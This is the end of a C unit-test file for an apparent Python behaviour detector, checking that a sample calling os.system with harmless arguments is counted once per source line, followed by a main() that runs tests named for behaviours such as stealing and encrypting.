			CHECK(strcmp(a->slug, b->slug));
		}
	}
}

/* The same line counts once, in loops and functions too. */
static void counts_lines(void)
{
	const char text[] = "import os\ndef f(x):\n  os.system(x)\n"
			    "for i in 'abc':\n  f('a'); f('b')\n"
			    "os.system('c')\n";
	const struct mpy_behaviour_seen *seen;
	struct folding f;

	folding_start(&f, text, strlen(text));
	seen = &mpy_fold_behaviours(f.fold)->seen[MPY_BEH_RUN_COMMAND];
	CHECK(seen->count == 2);
	CHECK(seen->line == 3);
	folding_end(&f);
}

int main(void)
{
	RUN(executes);
	RUN(starts);
	RUN(controls);
	RUN(steals);
	RUN(collects);
	RUN(stays_and_harms);
	RUN(encrypts);
	RUN(handed_over);
	RUN(spread);
	RUN(called_early);
	RUN(as_files);
	RUN(told_by_tables);
	RUN(but_seen);
	RUN(names_are_complete);
	RUN(counts_lines);
	return DONE();
}
